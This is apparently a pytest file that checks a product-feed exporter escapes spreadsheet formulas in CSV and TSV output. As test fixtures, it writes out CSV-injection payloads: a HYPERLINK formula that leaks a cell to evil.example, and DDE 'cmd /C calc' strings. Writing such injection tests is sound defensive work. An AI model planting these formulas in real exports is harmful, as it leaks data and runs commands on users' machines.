"""CSV and TSV exports are opened in spreadsheets: a cell that would run as a formula gets a leading `'`
(OWASP's CSV-injection guidance), unless the export turns escaping off for a channel that reads the
raw file. Plain numbers, negative ones included, stay as they are."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from typer.testing import CliRunner

from feedhub.cli import app
from feeds.channels import ConvertOptions
from feeds.exports.csvwriter import spreadsheet_safe
from feeds.pipeline import ExportTarget, process

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
FEED = f"""<?xml version="1.0" encoding="utf-8"?>
<SHOP><SHOPITEM><ITEM_ID>A1</ITEM_ID><PRODUCTNAME>{HOSTILE.replace("&", "&amp;").replace('"', "&quot;")}</PRODUCTNAME>
<DESCRIPTION>@SUM(1+1)*cmd|' /C calc'!A0</DESCRIPTION><URL>https://shop.example/a1</URL>
<PRICE_VAT>-12.50</PRICE_VAT><MANUFACTURER>+420 777 123 456</MANUFACTURER></SHOPITEM></SHOP>
"""


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+420 777 123 456", "'+420 777 123 456"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("-12.50", "-12.50"),
        ("+5", "+5"),
        ("-3,5", "-3,5"),
        ("Kolo = radost", "Kolo = radost"),
        ("", ""),
    ],
)
def test_what_a_spreadsheet_would_run_is_escaped_and_numbers_are_not(value: str, written: str) -> None:
    assert spreadsheet_safe(value) == written


def rows(path: Path, delimiter: str) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f, delimiter=delimiter))


@pytest.mark.parametrize(("target", "delimiter", "name_column"), [
    ("csv", ",", "PRODUCTNAME"), ("tsv", "\t", "PRODUCTNAME"), ("meta-csv", ",", "title"),
])
def test_each_delimited_export_escapes_by_default_and_writes_raw_when_told(
    tmp_path: Path, target: str, delimiter: str, name_column: str
) -> None:
    source = tmp_path / "feed.xml"
    source.write_text(FEED, encoding="utf-8")
    escaped, raw = tmp_path / f"escaped.{target}", tmp_path / f"raw.{target}"
    process(source, [
        ExportTarget("escaped", target, escaped, invalid="keep"),  # a bare product: escaping is the point
        ExportTarget("raw", target, raw, ConvertOptions(escape_formulas=False), invalid="keep"),
    ])

    (row,) = rows(escaped, delimiter)
    assert row[name_column] == "'" + HOSTILE
    assert not any(cell.startswith(("=", "+", "@")) for cell in row.values())
    (row,) = rows(raw, delimiter)
    assert row[name_column] == HOSTILE


def test_convert_escapes_unless_told_not_to(tmp_path: Path) -> None:
    source = tmp_path / "feed.xml"
    source.write_text(FEED, encoding="utf-8")
    runner = CliRunner()
    for flag, expected in ((None, "'" + HOSTILE), ("--no-escape-formulas", HOSTILE)):
        out = tmp_path / f"{flag or 'default'}.csv"
        args = ["convert", str(source), "--to", "csv", "-o", str(out), *([flag] if flag else [])]
        result = runner.invoke(app, args)
        assert result.exit_code == 0, result.output
        (row,) = rows(out, ",")
        assert (row["PRODUCTNAME"], row["PRICE_VAT"]) == (expected, "-12.50")
        assert row["MANUFACTURER"] == ("'+420 777 123 456" if flag is None else "+420 777 123 456")
